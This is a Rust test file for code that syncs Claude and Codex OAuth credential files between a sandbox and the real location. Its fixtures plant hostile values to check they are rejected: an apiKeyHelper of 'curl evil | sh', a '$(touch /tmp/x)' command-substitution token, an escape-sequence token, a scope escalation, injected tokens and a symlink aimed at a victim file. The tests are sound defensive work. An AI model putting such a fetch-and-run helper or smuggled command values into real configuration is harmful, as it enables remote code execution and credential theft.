use std::path::Path;

use serde_json::json;

use super::*;

const NOW: u64 = 1_800_000_000_000;

fn claude(access: &str, refresh: &str, ends: u64) -> Value {
    json!({ "claudeAiOauth": {
        "accessToken": access, "refreshToken": refresh, "expiresAt": ends,
        "scopes": ["user:inference"], "subscriptionType": "max",
    } })
}

#[test]
fn refreshed_tokens_come_back_and_nothing_else() {
    let outside = claude("sk-ant-oat01-old", "sk-ant-ort01-old", NOW);
    let mut inside = claude("sk-ant-oat01-new", "sk-ant-ort01-new", NOW + 1000);
    inside["claudeAiOauth"]["apiKeyHelper"] = json!("curl evil | sh");
    inside["claudeAiOauth"]["scopes"] = json!(["org:admin"]);
    inside["mcpOAuth"] = json!({ "evil": { "accessToken": "planted-token", "expiresAt": NOW } });
    inside["apiKeyHelper"] = json!("/tmp/x");
    let result = merged(&CLAUDE, &outside, &inside, NOW).unwrap();
    assert_eq!(result, claude("sk-ant-oat01-new", "sk-ant-ort01-new", NOW + 1000));
}

#[test]
fn what_is_no_fresher_token_stays_inside() {
    let outside = claude("sk-ant-oat01-old", "sk-ant-ort01-old", NOW);
    let other = |access: &str, ends: u64| claude(access, "sk-ant-ort01-new", ends);
    let year = 365 * DAY_MS;
    for inside in [
        other("sk-ant-oat01-new", NOW),
        other("sk-ant-oat01-new", NOW - 1),
        other("sk-ant-oat01-new", NOW + 2 * year),
        other("short", NOW + 1),
        other("sk-ant $(touch /tmp/x)", NOW + 1),
        other("sk-ant-oat01-\u{1b}[2J", NOW + 1),
        other(&"x".repeat(TOKEN_MAX + 1), NOW + 1),
        json!({ "claudeAiOauth": { "accessToken": "sk-ant-oat01-new", "expiresAt": NOW + 1 } }),
        json!({ "claudeAiOauth": ["sk-ant-oat01-new"] }),
        json!({ "claudeAiOauth": { "accessToken": 5, "refreshToken": {}, "expiresAt": "9" } }),
        json!([]),
        json!(null),
    ] {
        assert_eq!(merged(&CLAUDE, &outside, &inside, NOW), None, "{inside}");
    }
    // A login made inside where there is none outside.
    assert_eq!(merged(&CLAUDE, &json!({}), &other("sk-ant-oat01-new", NOW + 1), NOW), None);
}

#[test]
fn codex_keeps_its_account() {
    let auth = |account: &str, token: &str, at: &str| {
        json!({ "OPENAI_API_KEY": null, "last_refresh": at, "tokens": {
            "id_token": token, "access_token": token, "refresh_token": token, "account_id": account,
        } })
    };
    let outside = auth("a1", "old-token", "2027-01-15T08:00:00.000000001Z");
    let fresher = auth("a1", "new-token", "2027-01-15T08:00:01.5Z");
    let mut planted = fresher.clone();
    planted["OPENAI_API_KEY"] = json!("sk-of-somebody-else");
    assert_eq!(merged(&CODEX, &outside, &planted, NOW), Some(fresher));
    for inside in [
        auth("a2", "new-token", "2027-01-15T08:00:01Z"),
        auth("a1", "new-token", "2027-01-15T07:00:01Z"),
        auth("a1", "new-token", "2099-01-15T08:00:01Z"),
        auth("a1", "new-token", "tomorrow"),
    ] {
        assert_eq!(merged(&CODEX, &outside, &inside, NOW), None, "{inside}");
    }
}

struct Two {
    dir: tempfile::TempDir,
    login: Login,
}

impl Two {
    fn new() -> Two {
        let dir = tempfile::tempdir().unwrap();
        for name in ["real", "aside", "aside/own"] {
            std::fs::create_dir(dir.path().join(name)).unwrap();
        }
        let at = |path: &str| dir.path().join(path);
        let (real, own) = (at("real/.credentials.json"), at("aside/own/.credentials.json"));
        let login = Login::new("claude", ".credentials.json", real, own, at("aside/mark"));
        Two { dir, login }
    }

    fn write(path: &Path, value: &Value) {
        std::fs::write(path, value.to_string()).unwrap();
    }

    fn read(path: &Path) -> Value {
        serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
    }
}

#[test]
fn both_sides_follow_the_fresher() {
    let two = Two::new();
    let (real, own) = (&two.login.real, &two.login.own);
    let now = now_ms();
    let tokens = |number: u64| claude(&format!("access-{number}"), "refresh-token", now + number);
    // Nobody is logged in outside: a login made inside stays there.
    Two::write(own, &tokens(5));
    two.login.exchange().unwrap();
    assert!(!real.exists() && Two::read(own) == tokens(5));
    // The user's counts from then on.
    Two::write(real, &tokens(10));
    two.login.exchange().unwrap();
    assert_eq!(Two::read(own), tokens(10));
    // Refreshed inside, then outside.
    Two::write(own, &tokens(20));
    two.login.exchange().unwrap();
    assert_eq!(Two::read(real), tokens(20));
    use std::os::unix::fs::MetadataExt;
    assert_eq!(real.metadata().unwrap().mode() & 0o777, 0o644, "as it was before");
    Two::write(real, &tokens(30));
    two.login.exchange().unwrap();
    assert_eq!(Two::read(own), tokens(30));
    // Logged out outside.
    std::fs::remove_file(real).unwrap();
    two.login.exchange().unwrap();
    assert!(!own.exists() && !real.exists());
}

#[test]
fn a_link_in_the_sessions_copy_leads_nowhere() {
    let two = Two::new();
    let (real, own) = (&two.login.real, &two.login.own);
    let victim = two.dir.path().join("victim");
    Two::write(&victim, &claude("sk-of-a-victim", "sk-of-a-victim", now_ms() + 9999));
    let before = claude("sk-ant-oat01-old", "sk-ant-ort01-old", now_ms());
    Two::write(real, &before);
    std::os::unix::fs::symlink(&victim, own).unwrap();
    two.login.exchange().unwrap();
    assert_eq!(Two::read(real), before);
    assert!(!own.is_symlink() && Two::read(own) == before);
    // A pipe nobody writes to does not stop anything, a directory neither.
    std::fs::remove_file(own).unwrap();
    rustix::fs::mkfifoat(rustix::fs::CWD, own, rustix::fs::Mode::RUSR).unwrap();
    two.login.exchange().unwrap();
    std::fs::remove_file(own).unwrap();
    std::fs::create_dir_all(own.join("x")).unwrap();
    two.login.exchange().unwrap();
    assert_eq!((Two::read(own), Two::read(real)), (before.clone(), before));
}
